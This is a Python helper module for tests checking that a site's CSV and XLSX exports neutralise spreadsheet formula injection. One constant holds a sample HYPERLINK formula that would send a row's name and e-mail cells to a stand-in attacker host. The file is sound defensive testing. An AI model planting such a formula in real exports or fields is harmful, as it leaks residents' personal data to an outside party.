"""Helpers for the tests of the site's CSV and XLSX exports (formula injection)."""

import csv
import io

from openpyxl import load_workbook

# A resident's text that, unneutralised, sends the same row's other cells (name, e-mail) away.
FORMULA = '=HYPERLINK("https://evil.example/?d="&L2&M2,"x")'


def download(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(response) -> list[str]:
    text = download(response).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response) -> list:
    workbook = load_workbook(io.BytesIO(download(response)))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def assert_export_neutralised(client, url, text=FORMULA, params=None):
    """`text` comes out of the CSV export with a single quote in front and out of the XLSX
    export as a text cell (never a formula)."""
    params = params or {}
    cells = csv_cells(client.get(url, {**params, "export": "csv"}))
    assert "'" + text in cells
    assert text not in cells
    cells = xlsx_cells(client.get(url, {**params, "export": "xlsx"}))
    matching = [cell for cell in cells if cell.value in (text, "'" + text)]
    assert matching
    assert all(cell.data_type == "s" for cell in matching)
